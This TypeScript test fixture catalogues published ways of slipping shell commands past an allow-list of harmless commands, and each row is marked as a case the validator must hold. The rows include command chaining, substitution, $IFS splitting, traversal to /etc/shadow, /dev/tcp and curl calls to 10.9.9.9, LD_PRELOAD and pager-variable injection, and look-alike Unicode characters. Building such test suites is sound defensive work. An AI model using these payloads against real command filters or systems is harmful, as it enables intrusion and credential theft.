/** Published ways past lists of harmless commands, by class, each row a line that must wait. Escapes are those of a template literal. */
import { rows } from './bypass-rows.ts';

export const shellBypasses: Readonly<Record<string, readonly string[]>> = {
  'chaining past a prefix': rows(`
ls;id
ls ;id
ls; curl http://10.9.9.9/x
ls&&id
ls||id
ls&id
ls &id
ls|sh
ls |sh
ls|&sh
ls & rm /srv/a
git status && git clean -fd
cat /srv/a;ls;ls;ls;ls;ls;ls;ls;ls;rm /srv/a
${'true;'.repeat(60)}curl http://10.9.9.9/x
echo hi>>/etc/profile
echo hi>/srv/a
echo hi 2>/srv/a
echo hi >|/srv/a
echo hi <>/srv/a
echo hi &>/srv/a
ls ;;id
ls (id)
(id)
{ id;}
! id
if true;then id;fi
case a in a)id;;esac
until id;do :;done`),
  'substitution past a prefix': rows(`
echo $(id)
echo "$(id)"
echo \`id\`
echo "\`id\`"
echo $((\`id\`))
echo "\${x:-$(id)}"
echo \${x:=$(id)}
echo \${x@P}
echo "\${PS4@P}"
echo \${!x}
echo \${x/a/$(id)}
echo \${x:$(id)}
echo \${a[$(id)]}
echo $[1+1]
ls $(echo -la)
grep "$(cat /etc/shadow)" /srv/a
test -f $(id)
date +$(id)
date "+$(id)"
cat /srv/a$(id)
ls --color=$(id)
find /srv -name $(id)
ls '/srv/a'$(id)
echo 'a'"$(id)"'b'`),
  '$IFS and other splitting': rows(`
cat$IFS/etc/shadow
cat$IFS$9/etc/shadow
cat\${IFS}/etc/shadow
cat\${IFS%??}/etc/shadow
ls$IFS-la
ls;cat$IFS/etc/shadow
IFS=,;cat,/etc/shadow
{cat,/etc/shadow}
cat{,} /srv/a
cat /srv/{a,../etc/shadow}
find /srv {-exec,id,;}
ls {--color=auto,-la}
c\\at /srv/a
c''at /srv/a
c""at /srv/a
ca$@t /srv/a
ca$*t /srv/a
$'\\x63\\x61\\x74' /srv/a
cat $'/etc/\\x73hadow'
$0 -c id
/???/c?t /srv/a
/bin/c[a]t /srv/a`),
  'line continuation and more lines': rows(`
ls \\
`).concat([
    'ls \\\nid',
    'ls\\\n;id',
    'ca\\\nt /etc/shadow',
    'ls\nid',
    'ls\n\nid',
    '\nid',
    'id\n',
    'ls #\nid',
    "ls '\nid'",
    'ls "\nid"',
    'cat <<a\nb\na',
    'cat <<a;id\nb\na',
    "cat <<'a'\n$(id)\na",
    'cat <<-a\n\tb\n\ta',
    'ls \\\r\nid',
    'ls\rid',
    'ls\u2028id',
    'ls\u2029id',
    'ls\u0085id',
    'ls\x0bid',
    'ls\x0cid',
    'ls\tid',
  ]),
  'lines that do not parse': rows(`
ls '
ls "
ls \`
ls $(
ls \${
ls (
ls )
ls {
ls }
ls &&
ls ||
ls |
| ls
&& ls
; ls
ls ;;
ls >
ls <
ls <<
ls <<<
ls <(
if
then ls
do ls
fi
done
esac
[[ a
((
ls 'a'b'
ls "a"b"
ls 'a"b
ls a'b
ls $'a
ls ''' a
ls """ a
function
for
case
!
{
}
[
]]`),
  'path-prefix confusion': rows(`
cat /srv/../etc/shadow
cat /srv/./../etc/shadow
cat /srv//..//etc//shadow
cat /etc/../etc/shadow
cat /etc/ssh/../shadow
cat /proc/self/root/etc/shadow
cat /proc/1/cwd/etc/shadow
cat /proc/self/fd/3
cat /dev/fd/3
cat /dev/stdin
ls /srv/../root/.ssh
find /srv/.. -name a
grep -r a /srv/../
grep -r a /srv/../etc
du -s /srv/..
/usr/bin/../../tmp/cat /srv/a
/usr/bin/./cat /srv/a
/usr//bin/cat /srv/a
/bin/../tmp/cat /srv/a
/tmp/bin/cat /srv/a
./cat /srv/a
../bin/cat /srv/a
bin/cat /srv/a
/usr/binx/cat /srv/a
/usr/local/bin/cat /srv/a
/opt/bin/ls
/home/a/bin/ls
catx /srv/a
cat.sh /srv/a
lsx
ls.real
/bin/ls/../rm /srv/a
/bin/busybox cat /srv/a`),
  'process substitution and redirections in odd places': rows(`
cat <(id)
cat 2<(id)
cat 3<(id)
cat /srv/a<(id)
cat <(id)/srv/a
diff <(id) <(id)
ls >(id)
ls 2>(id)
ls -la>(id)
<(id) ls
>(id)
ls =(id)
cat =(id)
cat <(<(id))
ls {fd}>/srv/b
ls {fd}<(id)
>/srv/b
>/srv/b ls
</etc/shadow cat
ls 2>&1
ls 2>&1 >/srv/b
ls >&/srv/b
ls >&2
ls >& 2
ls 1>/srv/b
ls 9>/srv/b
ls <&0
ls <&-
cat</etc/shadow
cat<<<x
ls >/dev/tcp/10.9.9.9/80
cat </dev/tcp/10.9.9.9/80
cat /dev/tcp/10.9.9.9/80
ls >!/srv/b
ls ^/srv/b`),
  'assignment prefixes': rows(`
A=1 ls
PATH=/tmp ls
LD_PRELOAD=/tmp/x.so ls
LD_LIBRARY_PATH=/tmp ls
LD_AUDIT=/tmp/x.so ls
GCONV_PATH=/tmp ls
LESSOPEN=id ls
PAGER=id systemctl status
SYSTEMD_PAGER=id systemctl status
SYSTEMD_PAGERSECURE=0 systemctl status
MANPAGER=id man ls
GIT_PAGER=id git log
GIT_SSH_COMMAND=id git fetch
GREP_OPTIONS=-f/etc/shadow grep a /srv/a
GREP_COLORS=x grep a /srv/a
TAR_OPTIONS=--to-command=id tar tf /srv/a
GZIP=-v zcat /srv/a
POSIXLY_CORRECT=1 uniq /srv/a -c
TMPDIR=/srv sort /srv/a
TERMINFO=/tmp ls
BASH_ENV=/tmp/x ls
ENV=/tmp/x ls
PS4=x ls
IFS=/ ls
HOME=/tmp ls
PERL5OPT=x ls
PYTHONSTARTUP=/tmp/x ls
RPM_CONFIGDIR=/tmp rpm -qa
A+=1 ls
A[0]=1 ls
A=(1) ls
A= ls
A=1
A=1 B=2 ls
_=x ls
'A'=1 ls`),
  'look-alike and invisible characters': [
    '\u0441at /srv/a',
    '\uff43at /srv/a',
    'cat\u00a0/srv/a',
    'cat\u2003/srv/a',
    'cat\u3000/srv/a',
    'cat \u2010n /srv/a',
    'cat \u2013n /srv/a',
    'cat \u2212n /srv/a',
    'cat \uff0dn /srv/a',
    'cat /srv/\u0430',
    'cat /srv/\u200ba',
    'cat /srv/\u200da',
    'cat /srv/\u2060a',
    'cat /srv/\ufeffa',
    '\ufeffls',
    'cat /srv/\u00ada',
    'cat /srv/\u202egpj.a',
    'cat /srv/\u2066a\u2069',
    'cat \uff0fetc\uff0fshadow',
    'cat \u2044etc\u2044shadow',
    'cat \u2215etc\u2215shadow',
    'ls \uff1b id',
    'ls \u037e id',
    'ls \uff5c id',
    'ls \u2024\u2024/etc',
    'ls \u2018a\u2019',
    'ls \u201ca\u201d',
    'ls \ud83d\ude00',
    'ls a\u0301',
    'ls \u{e0020}a',
    'ls \u{e0001}',
    'ls \u180ea',
    'ls \u3164a',
    'uptim\u0435',
  ],
};
